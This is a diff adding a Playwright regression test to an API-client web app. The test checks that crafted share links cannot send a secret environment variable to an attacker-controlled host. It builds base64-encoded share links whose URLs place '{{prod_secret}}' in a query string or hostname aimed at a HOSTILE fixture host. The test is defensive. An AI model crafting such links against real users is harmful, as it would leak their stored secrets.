@@ -1,5 +1,5 @@
 import { expect, test, type Page } from '@playwright/test';
-import { DEMO, fillClientCredentials, openApp, openAdvanced } from './fixtures';
+import { DEMO, HOSTILE, fillClientCredentials, openApp, openAdvanced } from './fixtures';
 
 const SECRET = 'my-very-secret-value-42';
 
@@ -83,3 +83,56 @@ for (const [what, fragment, message] of [
     await expect(page.getByRole('textbox', { name: 'Client ID' })).toHaveValue('demo-cc');
   });
 }
+
+const SECRET_VARIABLE = 'prodsecret42';
+
+/** An environment `prod` whose variable `prod_secret` is secret, saved. */
+async function secretEnvironment(page: Page): Promise<void> {
+  await page.getByRole('textbox', { name: 'New environment name' }).fill('prod');
+  await page.getByRole('button', { name: 'Add environment' }).click();
+  await page.getByRole('textbox', { name: 'Variable 1 name' }).fill('prod_secret');
+  await page.getByRole('checkbox', { name: 'Variable 1 is secret' }).check();
+  await page.getByLabel('Variable 1 value').fill(SECRET_VARIABLE);
+  await page.getByRole('button', { name: 'Save variables' }).click();
+  await expect(page.getByTestId('library-notice')).toContainText('Variables saved');
+}
+
+/** A share link (as the app encodes them): API key auth under `X-Collect`, a GET to `url`. */
+const linkTo = (url: string) =>
+  `./#share=${Buffer.from(JSON.stringify({ v: 1, auth: { authType: 'api_key', presetId: null, apiKey: { placement: 'header', name: 'X-Collect' } }, testRequest: { method: 'GET', url } })).toString('base64url')}`;
+
+// Regression (issue 13, finding 2): `{{variables}}` in a share link exfiltrated secret variables.
+test('a share link names every host and secret variable it uses; a secret variable in a host is never sent', async ({ page }) => {
+  await openApp(page);
+  await secretEnvironment(page);
+  const carried: string[] = [];
+  page.on('request', (request) => {
+    const text = `${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`;
+    if (text.includes(SECRET_VARIABLE)) carried.push(text);
+  });
+  const confirm = page.getByRole('region', { name: 'Shared settings' });
+
+  // `http:host/…` is a URL the browser sends to that host: the confirmation names it.
+  const hostile = new URL(HOSTILE);
+  await page.goto(linkTo(`http:${hostile.host}/collect?v={{prod_secret}}`));
+  await expect(confirm.getByTestId('share-hosts')).toContainText(hostile.host);
+  await expect(confirm.getByTestId('share-variables')).toContainText('{{prod_secret}} (secret)');
+  await confirm.getByRole('button', { name: 'Ignore' }).click();
+
+  // A secret variable in the host itself: its value would be the host; never substituted.
+  await page.goto(linkTo(`http://{{prod_secret}}.localhost:${hostile.port}/collect`));
+  await expect(confirm.getByTestId('share-hosts')).toContainText(`{{prod_secret}}.localhost:${hostile.port}`);
+  await confirm.getByRole('button', { name: 'Apply shared settings' }).click();
+  await page.getByLabel('API key', { exact: true }).fill('typed-key');
+  await page.getByRole('button', { name: 'Send' }).click();
+  const alert = page.getByRole('region', { name: 'Test request', exact: true }).getByRole('alert');
+  await expect(alert).toContainText('{{prod_secret}}');
+  await expect(alert).toContainText('not confirmed');
+  // still so after a reload: the confirmed hosts are kept with the settings
+  await page.reload();
+  await expect(page.getByRole('textbox', { name: 'Request URL' })).toHaveValue(`http://{{prod_secret}}.localhost:${hostile.port}/collect`);
+  await page.getByLabel('API key', { exact: true }).fill('typed-key');
+  await page.getByRole('button', { name: 'Send' }).click();
+  await expect(alert).toContainText('not confirmed');
+  expect(carried).toEqual([]);
+});
